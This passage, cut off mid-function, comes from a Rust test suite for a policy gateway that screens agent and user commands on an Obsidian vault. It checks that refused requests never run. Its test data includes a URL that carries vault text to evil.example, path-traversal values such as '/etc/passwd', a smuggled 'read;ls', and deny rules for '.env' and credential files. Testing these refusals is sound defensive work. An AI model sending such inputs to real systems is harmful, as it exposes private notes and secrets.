//! What policy refuses is never started: each proof ends at the log of the fake binary, which
//! does not exist.

use cli_output::Shape;
use fake_obsidian::scenario::{Action, Scenario, Stream};
use serde_json::json;
use vault_gw::allowlist::{
    Call, Catalogue, Command, Effect, ListKind, ParamKind, RawValue, Target, Tier,
};
use vault_gw::gateway::{Answerer, Caller, Envelope, Gateway, Options, Params, Request, Status};
use vault_gw::settings::BackendChoice;

use crate::support::{
    NOW, Outcome as _, World, answer, asked, checked, code, dry_run_of, has, request,
};

const CASES: &str = include_str!("data/policy.txt");

/// Everything that settings can open, and no approval asked that can be waived.
const WIDE_OPEN: &str =
    "allow_mutations = true\nallow_publish = true\nallow_active_file = true\napprove = []";

/// A fake that keeps a log and lives at [`NOW`].
fn fake() -> Scenario {
    Scenario {
        now: Some(NOW.parse().unwrap()),
        ..Scenario::logged()
    }
}

fn world() -> World {
    World::with_fixture_vault().with_fake(&fake())
}

fn wide_open() -> World {
    world().set(WIDE_OPEN)
}

fn catalogue() -> &'static Catalogue {
    Catalogue::builtin().unwrap()
}

fn person(approved: bool) -> Options {
    Options {
        approved,
        ..Options::new(Caller::Person)
    }
}

fn in_tier(tier: Tier, approved: bool) -> Options {
    Options {
        tier: Some(tier),
        ..person(approved)
    }
}

fn acting(caller: Caller, agent: &str) -> Options {
    Options {
        agent: Some(agent.to_owned()),
        ..Options::new(caller)
    }
}

fn through(backend: BackendChoice) -> Options {
    Options {
        backend: Some(backend),
        ..Options::new(Caller::Agent)
    }
}

/// A gateway for each backend.
fn both(world: &World) -> [(BackendChoice, Gateway); 2] {
    BACKENDS.map(|backend| (backend, world.gateway_with(through(backend))))
}

const BACKENDS: [BackendChoice; 2] = [BackendChoice::Obsidian, BackendChoice::Embedded];

/// The call was refused with this code, by the gateway itself.
#[track_caller]
fn assert_refused(envelope: &Envelope, with: &str) {
    assert_eq!(code(envelope), with, "{envelope:#?}");
    assert!(!envelope.success);
    assert_eq!(envelope.exit_code, None);
    assert_eq!(envelope.meta.backend, Answerer::None);
    let printed = (envelope.stdout.as_str(), envelope.stderr.as_str());
    assert_eq!(printed, ("", ""));
    assert!(envelope.data.is_empty());
}

/// Each of these lines, which `; ` parts, is refused with this code, for an agent.
#[track_caller]
fn refused(world: &World, with: &str, lines: &str) {
    for line in lines.split("; ") {
        let envelope = world.ask(line);
        assert_eq!(code(&envelope), with, "{line}");
        assert_refused(&envelope, with);
    }
}

/// The code is one of these.
#[track_caller]
fn assert_one_of(envelope: &Envelope, codes: [&str; 2], case: &str) {
    let shown = code(envelope);
    assert!(codes.contains(&shown), "{case}: {shown}: {envelope:#?}");
}

/// A path as the value of an argument, as it is.
fn with_path(command: &str, path: &str, more: &[(&str, &str)]) -> Request {
    request(command, &[&[("path", path)], more].concat())
}

/// A request with one more argument.
fn with(mut request: Request, name: &str, value: RawValue) -> Request {
    request.params.0.insert(name.to_owned(), value);
    request
}

/// A request with the required arguments of a command and nothing else.
fn least(command: &Command) -> Request {
    let value = |kind: &ParamKind| match kind {
        ParamKind::Integer { min, .. } => min.to_string(),
        ParamKind::Choice(words) => words[0].clone(),
        ParamKind::Url => "https://example.org".to_owned(),
        ParamKind::TaskRef => "x.md:1".to_owned(),
        ParamKind::List(ListKind::Notes) => r#"[{"path":"x.md"}]"#.to_owned(),
        ParamKind::List(ListKind::Paths) => r#"["x.md"]"#.to_owned(),
        ParamKind::List(ListKind::Changes) => {
            r#"[{"command":"append","params":{"path":"x.md","content":"x"}}]"#.to_owned()
        }
        ParamKind::Destination | ParamKind::Folder => "Archive".to_owned(),
        _ => "x".to_owned(),
    };
    let required = command.params.iter().filter(|param| param.required);
    let params = required.map(|param| (param.name.clone(), RawValue::Text(value(&param.kind))));
    Request {
        params: Params(params.collect()),
        ..Request::new(command.id.clone())
    }
}

fn admitted(command: &Command, request: &Request) -> Call {
    catalogue().admit(&command.id, &request.params.0).unwrap()
}

// A. The gate.

#[test]
fn a01_refused_and_unknown_commands_are_never_started() {
    let world = wide_open();
    let unknown = "|raed|__completions|-h|--version|notes|vault:|sh|obsidian";
    for options in [Options::new(Caller::Agent), person(true)] {
        let gateway = world.gateway_with(options);
        for refused in catalogue().refused() {
            let envelope = checked(gateway.call(&Request::new(refused.id.clone())));
            assert_refused(&envelope, "COMMAND_REFUSED");
            assert_eq!(envelope.status, Status::Refused);
        }
        for unknown in unknown.split('|') {
            let envelope = checked(gateway.call(&Request::new(unknown)));
            assert_refused(&envelope, "UNKNOWN_COMMAND");
        }
        let mistyped = gateway.call(&Request::new("raed")).error.unwrap();
        assert_eq!(mistyped.details["nearest"][0], "read");
    }
    assert!(world.nothing_spawned());
}

#[test]
fn a02_spelling_variants_of_a_command_are_never_started() {
    let world = wide_open();
    let gateway = world.gateway();
    let shapes = "Read|READ| read|read |read path=Home.md|read;ls|ｒead|daily: read|daily：read";
    let others = "daily%3Aread|./read|read=read|delete permanent";
    let unseen = "read\n|read\0|read\u{a0}|re\u{200b}ad|\u{feff}read";
    let variants = [shapes, others, unseen].map(|list| list.split('|'));
    for variant in variants.into_iter().flatten() {
        let envelope = checked(gateway.call(&Request::new(variant)));
        assert_refused(&envelope, "UNKNOWN_COMMAND");
        assert_eq!(envelope.command, variant);
    }
    assert!(world.nothing_spawned());
}

#[test]
fn a03_a_parameter_of_another_command_is_named_and_nothing_is_started() {
    let world = wide_open();
    let gateway = world.gateway();
    for command in catalogue().commands() {
        let foreign = ["nope", "template", "query", "content"]
            .into_iter()
            .find(|name| command.param(name).is_none() && command.flag(name).is_none())
            .unwrap();
        let request = with(least(command), foreign, RawValue::Text("x".to_owned()));
        let envelope = checked(gateway.call(&request));
        assert_refused(&envelope, "USAGE_ERROR");
        let named = &envelope.error.unwrap().details["parameter"];
        assert_eq!(named, foreign, "{}", command.id);
    }
    assert!(world.nothing_spawned());
}

#[test]
fn a04_a_flag_smuggled_in_is_refused_for_every_command() {
    let world = wide_open();
    let gateway = world.gateway();
    let refused = |request: Request| {
        assert_refused(&checked(gateway.call(&request)), "USAGE_ERROR");
    };
    let flags = "permanent overwrite open newtab inline active --copy";
    for command in catalogue().commands() {
        for flag in flags.split(' ').filter(|flag| command.flag(flag).is_none()) {
            refused(with(least(command), flag, RawValue::Bool(true)));
        }
    }
    for text in ["1", "yes", "true true"] {
        let raw = RawValue::Text(text.to_owned());
        refused(with(asked("delete path=Home.md"), "permanent", raw));
    }
    assert!(world.nothing_spawned());
}

#[test]
fn a04_a_flag_brings_its_own_effects_to_the_gate() {
    let world = world().set("allow_mutations = true\nallow_ui = false");
    refused(&world, "APPROVAL_REQUIRED", "create path=Home.md overwrite");
    refused(&world, "MUTATION_DISABLED", "create path=Home.md open");
    assert!(world.nothing_spawned());
}

#[test]
fn a05_writes_wait_for_the_owner() {
    let world = world();
    world.write_settings();
    let append = || world.run_as_it_is(&["--json", "daily:append", "content=x"], b"");
    let set = |value| {
        world
            .run_as_it_is(&["settings", "set", "allow_mutations", value], b"")
            .ended(0);
    };
    let refused = append();
    refused.ended(77);
    refused.json().fails_with("MUTATION_DISABLED");
    assert!(world.nothing_spawned());
    set("true");
    let written = append();
    written.ended(0);
    assert_eq!(written.json()["meta"]["backend"], "obsidian");
    set("false");
    let runs = world.invocations().len();
    append().ended(77);
    assert_eq!(world.invocations().len(), runs);
}

#[test]
fn a05_no_field_of_a_request_opens_anything() {
    let world = world().set("enabled = true");
    let cases = tables::typed::<(&str, &str)>(CASES, "a05 no field of a request opens anything");
    let (lines, codes): (Vec<_>, Vec<_>) = cases.into_iter().unzip();
    let ran = world.run_with_input(&["call", "--yes"], lines.join("\n").as_bytes());
    let envelopes = ran.lines();
    let shown = envelopes.iter().map(|envelope| &envelope["error"]["code"]);
    assert_eq!(shown.collect::<Vec<_>>(), codes);
    // What went through the gate is in the log as refused.
    let log = world.run(&["audit", "-o", "jsonl"]).lines();
    let refused = log.iter().filter(|record| record["decision"] == "refused");
    let refused = refused.map(|record| (&record["code"], &record["command"]));
    let wanted = [(&json!("MUTATION_DISABLED"), &json!("daily:append"))];
    assert_eq!(refused.collect::<Vec<_>>(), wanted, "{log:?}");
    assert!(world.nothing_spawned());
}

#[test]
fn a06_commands_that_look_like_reads_but_act_need_their_switch() {
    let world = world().set("allow_ui = false");
    let opens = "daily; open path=Home.md; random; search:open; history:open path=Home.md; unique";
    let writes =
        "bookmark file=Home.md; task path=Home.md line=1 toggle; template:insert name=Daily";
    refused(&world, "MUTATION_DISABLED", opens);
    refused(&world, "MUTATION_DISABLED", writes);
    let never = "tab:open; web url=https://obsidian.md; dev:screenshot path=a.png";
    refused(&world, "COMMAND_REFUSED", never);
    assert!(world.nothing_spawned());
}

#[test]
fn k05_no_address_carries_anything_away_until_the_owner_opens_it() {
    const BOOKMARK: &str = "bookmark url='https://evil.example/?q=text-of-the-vault' title=x";
    const OPEN: &str = "allow_mutations = true\nallow_publish = true";
    const WEB: &str = "web url='https://evil.example/?q=text-of-the-vault'";
    for (settings, refused_with) in [
        ("", "MUTATION_DISABLED"),
        ("allow_mutations = true", "MUTATION_DISABLED"),
        (OPEN, "APPROVAL_REQUIRED"),
        ("allow_publish = true\napprove = []", "MUTATION_DISABLED"),
    ] {
        let world = world().set("tier = \"v3\"").set(settings);
        let envelope = world.ask(BOOKMARK);
        assert_eq!(code(&envelope), refused_with, "{settings}");
        assert_refused(&envelope, refused_with);
        refused(&world, "COMMAND_REFUSED", WEB);
        assert!(world.nothing_spawned());
    }
    // Open or not, a person looks at each of them.
    let world = wide_open();
    refused(&world, "APPROVAL_REQUIRED", BOOKMARK);
    refused(&world, "COMMAND_REFUSED", WEB);
    assert!(world.nothing_spawned());
    // What the refusals are about works where it is open, and neighbours need no such switch.
    let call = |world: &World, line| {
        let options = Options {
            backend: Some(BackendChoice::Embedded),
            ..person(true)
        };
        answer(&world.gateway_with(options), line).succeeds();
    };
    call(&world, BOOKMARK);
    let world = self::world().set("tier = \"v3\"\nallow_mutations = true");
    call(&world, "bookmark file=Home.md");
}

#[test]
fn a07_code_is_never_run_under_any_setting() {
    let world = wide_open();
    for caller in [Options::new(Caller::Agent), person(true)] {
        let gateway = world.gateway_with(caller);
        let run =
            "eval code=1; command id=1; dev:cdp method=1; plugins:restrict off=1; restart x=1";
        let load = "plugin:install id=1; plugin:enable id=1; plugin:reload id=1; \
                    theme:install name=1; snippet:enable name=1";
        for line in run.split("; ").chain(load.split("; ")) {
            assert_refused(&answer(&gateway, line), "COMMAND_REFUSED");
        }
    }
    let ran = world.run(&["eval", "code=1", "--yes", "--tier", "v3"]);
    ran.ended(77);
    ran.prints("");
    ran.reports("never allowed");
    assert!(world.nothing_spawned());
}

#[test]
fn a12_no_command_falls_back_to_the_active_file() {
    let world = world().set("allow_mutations = true\nallow_publish = true\napprove = []");
    let gateway = world.gateway_with(person(true));
    let mut count = 0;
    for command in catalogue().commands() {
        let request = least(command);
        if admitted(command, &request).acts_on() != Target::ActiveFile {
            continue;
        }
        count += 1;
        let envelope = checked(gateway.call(&request));
        // Who can name a note forgot to; the others wait for the owner's switch.
        let can_name = ["path", "file", "ref"]
            .iter()
            .any(|name| command.param(name).is_some());
        let wanted = if can_name {
            "USAGE_ERROR"
        } else {
            "MUTATION_DISABLED"
        };
        assert_refused(&envelope, wanted);
        let details = envelope.error.unwrap().details;
        assert_eq!(details["reason"], "active-file", "{}", command.id);
        assert_eq!(details["needs"], json!(["allow_active_file"]));
    }
    assert!(count >= 20, "{count}");
    refused(&world, "USAGE_ERROR", "tags active");
    assert!(world.nothing_spawned());
}

#[test]
fn a12_path_rules_close_the_active_file_even_where_it_is_allowed() {
    let world = wide_open().with_tables("[paths]\ndeny = [\"Daily/**\"]");
    refused(&world, "PATH_DENIED", "read");
    assert!(world.nothing_spawned());
}

#[test]
fn a13_the_pinned_vault_is_the_only_one_and_goes_first() {
    let world = world();
    let gateway = world.gateway();
    let of_vault = |vault: &str| Request {
        vault: Some(vault.to_owned()),
        ..asked("read path=Home.md")
    };
    let in_params = answer(&gateway, "read path=Home.md vault=Notes");
    assert_refused(&in_params, "USAGE_ERROR");
    for other in ["Other", "notes", "", "Notes "] {
        let envelope = checked(gateway.call(&of_vault(other)));
        assert_refused(&envelope, "VAULT_NOT_FOUND");
    }
    assert!(world.nothing_spawned());
    checked(gateway.call(&of_vault("Notes"))).succeeds();
    world.ask("files folder=Projects").succeeds();
    for argv in world.argvs() {
        assert_eq!(argv[0], "vault=Notes");
        let named = argv.iter().filter(|word| word.starts_with("vault="));
        assert_eq!(named.count(), 1);
    }
}

#[test]
fn destroying_waits_for_a_person() {
    const DELETE: &str = "delete path=Reading/Orphan.md";
    let world = world().set("allow_mutations = true");
    let yes = Options {
        approved: true,
        ..Options::new(Caller::Agent)
    };
    for options in [Options::new(Caller::Agent), yes, person(false)] {
        let envelope = answer(&world.gateway_with(options), DELETE);
        assert_refused(&envelope, "APPROVAL_REQUIRED");
        let effects = &envelope.error.unwrap().details["effects"];
        assert_eq!(effects, &json!(["destroy"]));
    }
    let line = r#"{"command":"delete","params":{"path":"Reading/Orphan.md"}}"#;
    let world = world.set("enabled = true");
    let ran = world.run_with_input(&["call", "--yes"], line.as_bytes());
    ran.json().fails_with("APPROVAL_REQUIRED");
    assert!(world.nothing_spawned());
    assert!(world.vault.join("Reading/Orphan.md").exists());
    world.run_line(DELETE).ended(77);
    let world = world.with_tables("[agents.helper]");
    let as_agent = world.run_line(&format!("--agent helper --yes {DELETE}"));
    assert_eq!(as_agent.status, Some(77), "an agent approves nothing");
    assert!(world.nothing_spawned());
    world.run_line(&format!("{DELETE} --yes")).ended(0);
    assert!(!world.vault.join("Reading/Orphan.md").exists());
}

#[test]
fn a_closed_tier_is_distinguished_from_a_closed_switch() {
    let world = world().set("tier = \"v0\"");
    world.ask("daily:path").succeeds();
    let runs = world.argvs().len();
    refused(&world, "TIER_CLOSED", "read path=Home.md; search query=x");
    let wider = world.gateway_with(in_tier(Tier::V3, true));
    assert_refused(&wider.call(&asked("read path=Home.md")), "TIER_CLOSED");
    let wide = wide_open();
    let narrower = wide.gateway_with(in_tier(Tier::V1, true));
    assert_refused(&narrower.call(&asked("orphans")), "TIER_CLOSED");
    assert_eq!(world.argvs().len(), runs);
    assert!(wide.nothing_spawned());
}

#[test]
fn an_agents_table_holds_for_whoever_acts_as_it() {
    let world = world().set("allow_mutations = true").with_tables(
        "[agents.reader]\ntier = \"v0\"\nallow_mutations = false\n[agents.gone]\nenabled = false",
    );
    for caller in [Caller::Agent, Caller::Person] {
        let gateway = world.gateway_with(acting(caller, "reader"));
        let append = answer(&gateway, "daily:append content=x");
        assert_refused(&append, "MUTATION_DISABLED");
        assert_refused(&answer(&gateway, "read path=Home.md"), "TIER_CLOSED");
    }
    let gone = world.gateway_with(acting(Caller::Agent, "gone"));
    assert_refused(&answer(&gone, "daily:path"), "BRIDGE_DISABLED");
    for (agent, status) in [("reader", 77), ("readr", 64)] {
        world
            .run_line(&format!("--agent {agent} read path=Home.md"))
            .ended(status);
    }
    assert!(world.nothing_spawned());
}

// D. Paths.

#[test]
fn d01_no_path_leaves_the_vault_by_any_argument() {
    let world = wide_open();
    let relative = "../x.md|a/../../b.md|..|a/..|./../x.md|~/x.md|a\\b.md";
    let absolute = "/etc/passwd|file:///etc/passwd|C:\\x.md|C:/x.md|\\\\server\\share\\x.md";
    for (backend, gateway) in both(&world) {
        for bad in relative.split('|').chain(absolute.split('|')) {
            for [rest, key] in tables::section(CASES, "d01 no path leaves the vault") {
                let request = with(asked(rest), key, RawValue::Text(bad.to_owned()));
                let envelope = checked(gateway.call(&request));
                let refusal = code(&envelope);
                assert!(
                    matches!(refusal, "PATH_ESCAPE" | "USAGE_ERROR" | "PATH_DENIED"),
                    "{backend:?} {rest} {key}={bad}: {refusal}"
                );
                assert_refused(&envelope, refusal);
            }
        }
    }
    assert!(world.nothing_spawned());
}

#[test]
fn d01_percent_signs_are_never_decoded() {
    let world = World::with_fixture_vault();
    world.write("%2e%2e/a.md", "inside");
    assert_eq!(world.ask("read path=%2e%2e/a.md").stdout, "inside");
    world
        .ask("read path=%2e%2e/%2e%2e/etc/passwd")
        .fails_with("FILE_NOT_FOUND");
}

#[test]
fn d02_a_rule_for_a_folder_says_nothing_of_its_neighbours() {
    let world = world().with_tables("[paths]\nread = [\"notes/**\"]");
    world.write("notes/a.md", "open");
    world.write("notes-private/a.md", "closed");
    world.write("notes.md", "closed");
    let closed = "read path=notes-private/a.md; read path=notes.md; read path=notesX/a.md";
    refused(&world, "PATH_DENIED", closed);
    assert!(world.nothing_spawned());
    assert_eq!(world.ask("read path=notes/a.md").stdout.trim_end(), "open");
}

#[cfg(unix)]
#[test]
fn d03_a_symlink_is_neither_read_nor_written_by_either_backend() {
    use fs_err::os::unix::fs::symlink;

    let world = wide_open();
    let outside = world.scratch();
    fs_err::write(outside.join("secret.md"), "CANARY").unwrap();
    for (target, link) in [
        (outside.join("secret.md"), "link.md"),
        (outside.join("absent.md"), "dangling.md"),
        (outside.clone(), "folder"),
        (outside.join("secret.md"), "Templates/Leak.md"),
    ] {
        symlink(target, world.vault.join(link)).unwrap();
    }
    for (backend, gateway) in both(&world) {
        for line in tables::lines(CASES, "d03 a symlink is neither read") {
            let envelope = answer(&gateway, line);
            assert_one_of(&envelope, ["PATH_ESCAPE", "REQUIRES_APP"], line);
            assert!(!envelope.to_json().contains("CANARY"), "{backend:?} {line}");
        }
    }
    assert!(world.nothing_spawned());
    assert_eq!(fs_err::read_dir(&outside).unwrap().count(), 1);
    let secret = fs_err::read_to_string(outside.join("secret.md")).unwrap();
    assert_eq!(secret, "CANARY");
}

#[cfg(unix)]
#[test]
fn d14_a_pipe_is_named_as_one_by_its_path_and_by_its_name() {
    use rustix::fs::{CWD, FileType, Mode, mknodat};

    let world = wide_open();
    for name in ["pipe", "note.md"] {
        mknodat(CWD, world.vault.join(name), FileType::Fifo, Mode::RWXU, 0).unwrap();
    }
    for (_, gateway) in both(&world) {
        for (line, path) in [
            ("read path=pipe", "pipe"),
            ("read file=pipe", "pipe"),
            ("read file=note", "note.md"),
        ] {
            let error = answer(&gateway, line).fails_with("IO_ERROR").error.unwrap();
            let expected = format!("`{path}` is not a regular file.");
            has(&error.message().text(), &[&expected]);
        }
    }
    assert!(world.nothing_spawned());
}

#[cfg(unix)]
#[test]
fn d03_with_follow_symlinks_folders_outside_are_read_and_never_written() {
    use fs_err::os::unix::fs::symlink;

    let world = wide_open().set("follow_symlinks = true").with_tables(
        "[agents.closed]\nfollow_symlinks = false\n[agents.open]\nfollow_symlinks = true",
    );
    let outside = world.scratch();
    fs_err::write(outside.join("shared.md"), "SHARED\n").unwrap();
    symlink(&outside, world.vault.join("folder")).unwrap();
    symlink(outside.join("shared.md"), world.vault.join("link.md")).unwrap();
    for (backend, gateway) in both(&world) {
        for (line, stdout) in [
            ("read path=folder/shared.md", "SHARED\n"),
            ("files folder=folder", "folder/shared.md\n"),
            ("read file=shared", "SHARED\n"),
        ] {
            let envelope = answer(&gateway, line);
            assert_eq!(envelope.stdout, stdout, "{backend:?} {envelope:#?}");
        }
        for (agent, expected) in [("closed", "PATH_ESCAPE"), ("open", "OK")] {
            let options = Options {
                agent: Some(agent.to_owned()),
                ..through(backend)
            };
            let read = asked("read path=folder/shared.md");
            let envelope = world.gateway_with(options).call(&read);
            assert_eq!(code(&envelope), expected, "{backend:?} {agent}");
        }
    }
    let before = world.invocations().len();
    for (_, gateway) in both(&world) {
        for line in tables::lines(CASES, "d03 with follow symlinks folders outside") {
            let envelope = answer(&gateway, line);
            assert_one_of(&envelope, ["PATH_ESCAPE", "REQUIRES_APP"], line);
        }
    }
    assert_eq!(world.invocations().len(), before);
    let text = fs_err::read_to_string(outside.join("shared.md")).unwrap();
    assert_eq!(text, "SHARED\n");
}

#[cfg(unix)]
#[test]
fn d05_a_write_to_a_file_with_another_name_says_so() {
    for backend in BACKENDS {
        let world = world().set("allow_mutations = true");
        let outside = world.scratch().join("outside.txt");
        fs_err::write(&outside, "outside\n").unwrap();
        fs_err::hard_link(&outside, world.vault.join("linked.md")).unwrap();
        world.write("plain.md", "plain\n");
        let gateway = world.gateway_with(through(backend));
        let append = |path: &str, dry_run| {
            let request = Request {
                dry_run,
                ..with_path("append", path, &[("content", "more")])
            };
            let envelope = checked(gateway.call(&request)).succeeds();
            let shown = envelope.warnings.into_iter();
            shown
                .filter(|issue| issue.code == "HARD_LINK")
                .map(|issue| issue.path.unwrap())
                .collect::<Vec<_>>()
        };
        let outside = || fs_err::read_to_string(&outside).unwrap();
        assert_eq!(append("plain.md", false), [""; 0], "{backend:?}");
        assert_eq!(append("linked.md", true), ["linked.md"], "{backend:?}");
        assert_eq!(outside(), "outside\n");
        assert_eq!(append("linked.md", false), ["linked.md"], "{backend:?}");
        assert_eq!(world.read("linked.md"), "outside\n\nmore");
        if backend == BackendChoice::Embedded {
            assert_eq!(outside(), "outside\n");
            // They have parted.
            assert_eq!(append("linked.md", false), [""; 0]);
        }
        let read = answer(&gateway, "read path=linked.md");
        assert!(read.success && read.warnings.is_empty(), "{read:#?}");
    }
}

#[test]
fn d06_hidden_places_are_closed_and_their_neighbours_are_not() {
    let hidden = ".hidden.md|Projects/.secret/a.md|.trash/Old plan.md|.git/config|.env";
    let tools = ".obsidian/app.json|.obsidian/plugins/x/main.js|.mcp.json|.claude/settings.json";
    let world = wide_open();
    for (_, gateway) in both(&world) {
        for path in hidden.split('|').chain(tools.split('|')) {
            for command in ["read", "create content=x", "append content=x"] {
                let request = with(asked(command), "path", RawValue::Text(path.to_owned()));
                assert_refused(&checked(gateway.call(&request)), "PATH_DENIED");
            }
        }
    }
    refused(&world, "PATH_DENIED", "files folder=.obsidian");
    assert!(world.nothing_spawned());
    for neighbour in "obsidian/app.md git/config.md a.obsidian/b.md trash.md".split(' ') {
        world.write(neighbour, "open");
        world.call("read", &[("path", neighbour)]).succeeds();
    }
}

#[test]
fn d07_no_spelling_of_a_denied_folder_is_open() {
    let world = wide_open().with_tables("[paths]\ndeny = [\"Straße/**\", \"Secret/**\"]");
    world.write("Secret/a.md", "CANARY");
    let refusals = ["PATH_DENIED", "USAGE_ERROR"];
    let spelled = "Secret/a.md SECRET/a.md secret/A.md ſecret/a.md STRASSE/a.md strasse/a.md \
                   .OBSIDIAN/app.json .obſidian/app.json";
    for (_, gateway) in both(&world) {
        for path in spelled.split(' ') {
            let envelope = checked(gateway.call(&with_path("read", path, &[])));
            assert_one_of(&envelope, refusals, path);
        }
    }
    for path in "Secret./a.md|Secret /a.md|.obsidian./app.json|.obsidian /app.json".split('|') {
        assert_one_of(&world.call("read", &[("path", path)]), refusals, path);
    }
    assert!(world.nothing_spawned());
}

#[test]
fn d08_both_unicode_spellings_of_a_name_are_decided_alike() {
    let world = world().with_tables("[paths]\ndeny = [\"Caf\u{e9}/**\", \"한글/**\"]");
    world.write("Caf\u{e9}/a.md", "closed");
    world.write("Th\u{e9}.md", "tea");
    let latin = "read path=Caf\u{e9}/a.md; read path=Cafe\u{301}/a.md";
    let hangul = "\u{1112}\u{1161}\u{11ab}\u{1100}\u{1173}\u{11af}";
    let hangul = format!("read path=한글/a.md; read path={hangul}/a.md");
    refused(&world, "PATH_DENIED", latin);
    refused(&world, "PATH_DENIED", &hangul);
    assert!(world.nothing_spawned());
    for (backend, gateway) in both(&world) {
        for line in ["read path=Th\u{e9}.md", "read path=The\u{301}.md"] {
            let envelope = answer(&gateway, line);
            let text = envelope.stdout.trim_end();
            assert_eq!(text, "tea", "{backend:?} {line:?} {envelope:#?}");
        }
    }
}

#[test]
fn d09_names_that_mean_devices_are_refused_on_every_system() {
    let world = wide_open();
    let devices = "CON con.md nul.md Notes/NUL COM1 COM1.md COM¹.md LPT9.txt aux.md";
    for path in devices.split(' ').chain(["a.md:stream", "a.md::$DATA"]) {
        for envelope in [
            world.call("read", &[("path", path)]),
            world.call("create", &[("path", path), ("content", "x")]),
        ] {
            assert_one_of(&envelope, ["USAGE_ERROR", "PATH_ESCAPE"], path);
        }
    }
    assert!(world.nothing_spawned());
}

#[test]
fn d10_odd_and_oversized_names_are_refused_cleanly_or_read() {
    let world = world();
    let long_name = format!("{}.md", "a".repeat(253));
    let long_path = format!("{}a.md", "folder/".repeat(600));
    for path in [long_name.as_str(), &long_path, "a//b.md", "/", ""] {
        let envelope = world.call("read", &[("path", path)]);
        let case = format!("{} bytes", path.len());
        assert_one_of(&envelope, ["USAGE_ERROR", "PATH_ESCAPE"], &case);
    }
    assert!(world.nothing_spawned());
    for path in ["[a].md", "a#b.md", "a^b.md", "a|b.md"] {
        world.write(path, "odd");
        for (_, gateway) in both(&world) {
            let envelope = checked(gateway.call(&with_path("read", path, &[])));
            assert_one_of(&envelope, ["OK", "USAGE_ERROR"], path);
        }
    }
}

#[test]
fn d11_a_name_becomes_one_path_before_anything_is_started() {
    let world = wide_open();
    let envelope = world.ask("read file=Garden").succeeds();
    assert_eq!(envelope.data.as_map()["path"], "Projects/Garden/Garden.md");
    world.ask("append file=garden content=more").succeeds();
    for argv in world.argvs() {
        let has_name = argv.iter().any(|word| word.starts_with("file="));
        assert!(!has_name, "{argv:?}");
        let has_path = argv.contains(&"path=Projects/Garden/Garden.md".to_owned());
        assert!(argv[1] == "vault" || has_path, "{argv:?}");
    }
}

#[test]
fn d11_an_ambiguous_name_is_never_written_to() {
    let world = wide_open();
    for (_, gateway) in both(&world) {
        for line in [
            "append file=Log content=x",
            "delete file=Log",
            "property:set file=Log name=a value=b",
        ] {
            let envelope = answer(&gateway, line);
            if code(&envelope) == "REQUIRES_APP" {
                continue;
            }
            assert_refused(&envelope, "AMBIGUOUS_TARGET");
            assert_eq!(
                envelope.error.unwrap().details["candidates"],
                json!(["Projects/Boat/Log.md", "Projects/Garden/Log.md"]),
                "{line}"
            );
        }
    }
    assert!(world.nothing_spawned());
}

#[test]
fn d11_an_ambiguous_read_takes_the_shortest_path_and_says_so() {
    let world = world();
    let envelope = world.ask("read file=Log");
    assert_eq!(envelope.data.as_map()["path"], "Projects/Boat/Log.md");
    assert_eq!(envelope.warnings[0].code, "AMBIGUOUS_NAME");
    let runs = world.argvs().len();
    world.write("Projects/Beat/Log.md", "as long as the other");
    refused(&world, "AMBIGUOUS_TARGET", "read file=Log");
    assert_eq!(world.argvs().len(), runs);
}

#[test]
fn d11_a_note_that_may_not_be_read_is_no_candidate() {
    let world = wide_open().with_tables("[paths]\ndeny = [\"Projects/Boat/**\", \"People/**\"]");
    let envelope = world.ask("read file=Log");
    let path = &envelope.data.as_map()["path"];
    assert_eq!(path, "Projects/Garden/Log.md", "{envelope:#?}");
    assert!(envelope.warnings.is_empty());
    world.ask("append file=Log content=x").succeeds();
    let runs = world.argvs().len();
    let hidden = world.ask("read file='Ana Reyes'");
    let absent = world.ask("read file=Nobody");
    assert_refused(&hidden, "FILE_NOT_FOUND");
    // The name is the caller's own. A denied note looks like one that is not there.
    let shown =
        |envelope: &Envelope, name: &str| format!("{:?}", envelope.error).replace(name, "NAME");
    assert_eq!(shown(&hidden, "Ana Reyes"), shown(&absent, "Nobody"));
    assert_eq!(world.argvs().len(), runs);
}

#[test]
fn d12_a_template_is_read_under_the_same_rules_as_a_note() {
    const CREATE: &str = "create path=Reading/new.md template=Meeting";
    let world = wide_open().with_tables("[paths]\ndeny = [\"Templates/**\"]");
    let read = "template:read name=Meeting; template:read name=meeting";
    refused(&world, "PATH_DENIED", CREATE);
    refused(&world, "PATH_DENIED", read);
    assert!(world.nothing_spawned());
    let world = wide_open().with_tables("[paths]\ndeny = [\"People/**\"]");
    world.ask(CREATE).succeeds();
}

#[test]
fn d12_a_file_whose_place_the_app_chooses_is_not_made_under_path_rules() {
    let world = wide_open().with_tables("[paths]\nwrite = [\"Inbox/**\"]");
    let named = "create name=x content=x; base:create path=Inbox/Books.base content=x";
    refused(&world, "PATH_DENIED", "unique content=x");
    refused(&world, "PATH_DENIED", named);
    assert!(world.nothing_spawned());
    world.ask("create path=Inbox/x.md content=x").succeeds();
}

#[test]
fn d12_a_numbered_copy_is_not_made_under_path_rules() {
    let world = wide_open().with_tables("[paths]\nwrite = [\"a.md\"]");
    world.write("a.md", "old\n");
    world
        .ask("create path=a.md content=new")
        .fails_with("FILE_EXISTS");
    assert!(world.nothing_spawned());
    assert_eq!(world.read("a.md"), "old\n");
}

#[test]
fn d13_the_daily_note_is_under_the_same_rules() {
    for backend in BACKENDS {
        let world = wide_open().with_tables("[paths]\ndeny = [\"Daily/**\"]");
        let gateway = world.gateway_with(through(backend));
        for line in "daily:read; daily:path; daily:append content=x; tasks daily".split("; ") {
            let envelope = answer(&gateway, line);
            if code(&envelope) != "REQUIRES_APP" {
                assert_refused(&envelope, "PATH_DENIED");
            }
        }
        assert!(world.nothing_spawned());
        assert!(!world.vault.join("Daily/2026-03-14.md").exists());
    }
}

#[test]
fn d13_no_daily_note_is_made_from_a_closed_template() {
    for backend in BACKENDS {
        let world = wide_open().with_tables("[paths]\ndeny = [\"Secret/**\"]");
        world.write("Secret/Day.md", "top secret\n");
        world.write(
            ".obsidian/daily-notes.json",
            r#"{"folder":"Daily","template":"Secret/Day"}"#,
        );
        let gateway = world.gateway_with(through(backend));
        // The app makes the note from the template of the settings, whatever the path rules say.
        let opened = answer(&gateway, "daily");
        assert!(!opened.success, "{opened:#?}");
        if code(&opened) != "REQUIRES_APP" {
            assert_refused(&opened, "PATH_DENIED");
            assert!(opened.to_json().contains("`daily:append`"), "{opened:#?}");
        }
        assert!(world.nothing_spawned());
        // The engine makes it without.
        let appended = answer(&gateway, "daily:append content=mine").succeeds();
        assert_eq!(world.read("Daily/2026-03-14.md").trim(), "mine");
        assert!(!appended.to_json().contains("secret"), "{appended:#?}");
        assert!(world.nothing_spawned());
    }
